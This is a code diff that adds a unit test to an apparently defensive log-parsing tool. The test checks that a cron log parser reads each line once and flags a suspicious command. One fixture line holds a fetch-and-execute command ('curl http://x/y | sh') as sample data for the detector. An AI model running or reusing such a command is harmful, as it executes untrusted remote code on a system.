@@ -213,6 +213,15 @@ def test_usb_reads_each_line_once(as_lines, hosts, counted):
     assert reads() == 3
 
 
+def test_cron_reads_each_line_once(as_lines, hosts, counted):
+    text = ("Jan  5 01:02:03 n1 CRON[8]: (carol) CMD (curl http://x/y | sh)\nJan  5 01:02:04 n1 CRON[8]: (carol) CMD (/usr/bin/run)\n"
+            "Jan  5 01:02:05 n1 other: nothing")
+    lines, reads = counted(as_lines({"var/log/cron": text}).withColumn("anchor_year", F.lit(None).cast("int")))
+    assert sorted(r.subcategory for r in REGISTRY["cronlog_parser"].extract(lines, hosts).collect()) == [
+        "cron_command", "cron_command", "suspicious_cron_command"]
+    assert reads() == 3
+
+
 def test_every_month_of_a_syslog_prefix(run):
     months = "Jan Feb Mar Apr May Jun Jul Aug Sep Oct Nov Dec".split()
     text = "".join(f"{m}  5 01:02:03 n1 usermod[99]: add 'carol' to group 'sudo'\n" for m in months)
